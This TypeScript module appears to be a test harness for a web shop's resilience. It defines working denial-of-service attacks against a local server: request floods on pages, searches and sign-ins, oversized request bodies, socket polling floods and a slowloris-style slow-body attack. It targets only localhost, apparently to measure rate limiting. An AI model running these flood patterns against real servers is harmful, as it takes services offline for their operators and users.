import { once } from 'node:events';
import { Agent, request, type IncomingMessage, type RequestOptions } from 'node:http';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';

/** The address that attacks; everybody else is another one. The whole network 127.0.0.0/8 is this machine. */
const HOSTILE_ADDRESS = '127.0.0.66';

/** What an attack knows: the port of the server, and the token of an account that anybody can register. */
interface Target {
  readonly port: number;
  readonly token: string;
}
type Attack = (target: Target) => void | Promise<void>;
/** The account of the attacker, as the demo world has it. */
const OWN_ACCOUNT = { email: 'owner@desert-packs.example', password: 'Plates-2026' };

const json = { 'content-type': 'application/json' };

const createRandomText = () => Math.random().toString(36).slice(2);

/** Sends one request after the other over so many connections, as fast as it is answered. */
function floodRequests(
  port: number,
  connections: number,
  next: () => RequestOptions & { readonly body?: string },
): void {
  const agent = new Agent({ keepAlive: true, maxSockets: connections, localAddress: HOSTILE_ADDRESS });
  const send = (): void => {
    const { body, ...options } = next();
    const again = () => setImmediate(send);
    const sent = request({ host: '127.0.0.1', port, agent, ...options }, (response) => {
      response.resume().on('close', again);
    });
    sent.on('error', () => setTimeout(send, 20));
    sent.end(body);
  };
  for (let index = 0; index < connections; index++) send();
}

/** The cookie that an answer sets, from an address that no earlier round used up. @throws Error when it sets none */
async function receiveCookie(port: number, { body, ...options }: RequestOptions & { body: string }): Promise<string> {
  const sent = request({ host: '127.0.0.1', port, headers: json, ...options });
  sent.end(body);
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  response.resume();
  const cookie = response.headers['set-cookie']?.[0]?.split(';')[0];
  if (!cookie) throw new Error(`The attacker's own sign-in was answered with ${response.statusCode ?? 0}.`);
  return cookie;
}

/** Opens so many connections, and those again that were closed. */
function holdConnections(port: number, connections: number, head: () => string, everyMs: number, part: string): void {
  const open = (): void => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: HOSTILE_ADDRESS }, () => socket.write(head()));
    const timer = setInterval(() => socket.write(part), everyMs);
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(open, 20);
    });
  };
  for (let index = 0; index < connections; index++) open();
}

export const attacks: Readonly<Record<string, Attack>> = {
  'random queries': ({ port }) =>
    floodRequests(port, 60, () => ({ path: `/api/homepagecategories?${createRandomText()}=${createRandomText()}` })),
  'uncached pages': ({ port }) =>
    floodRequests(port, 60, () => ({
      path: `/product/${createRandomText()}?x=${createRandomText()}`,
      headers: { accept: 'text/html' },
    })),
  searches: ({ port, token }) =>
    floodRequests(port, 60, () => ({
      path: `/api/orders/getList?_start=0&_end=25&advancedSearch=${createRandomText().slice(0, 3)}`,
      headers: { authorization: `Bearer ${token}` },
    })),
  'sign-ins': ({ port }) =>
    floodRequests(port, 60, () => ({
      method: 'POST',
      path: '/api/users/authenticate',
      headers: json,
      body: JSON.stringify({
        email: `${createRandomText()}@hostile.example`,
        password: createRandomText(),
        uniqueId: createRandomText(),
      }),
    })),
  // With the cookie of a browser that signed in before, the right password, and a code that the account does not ask for.
  "sign-ins of one's own account": async ({ port }) => {
    const signIn = () => ({
      method: 'POST',
      path: '/api/users/authenticate',
      body: JSON.stringify({ ...OWN_ACCOUNT, code: '000000', uniqueId: createRandomText() }),
    });
    const cookie = await receiveCookie(port, signIn());
    floodRequests(port, 60, () => ({ ...signIn(), headers: { ...json, cookie } }));
  },
  'large bodies': ({ port }) =>
    floodRequests(port, 20, () => ({
      method: 'POST',
      path: '/api/users/authenticate',
      headers: json,
      body: `{"email":"${'a'.repeat(1_900_000)}"}`,
    })),
  sockets: ({ port }) =>
    floodRequests(port, 60, () => ({ path: `/socket.io/?EIO=4&transport=polling&t=${createRandomText()}` })),
  'slow bodies': ({ port }) =>
    holdConnections(
      port,
      1_000,
      () =>
        `POST /api/contactus HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`,
      1_000,
      ' ',
    ),
};

/** A process of its own, so that its work is not that of whoever measures; the server comes first, too. */
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [, , name = '', port, token = ''] = process.argv;
  setPriority(10);
  await attacks[name]?.({ port: Number(port), token });
  // Starting took time of the processor, which is no part of the attack.
  process.stdout.write('begun\n');
  await sleep(3_600_000);
}
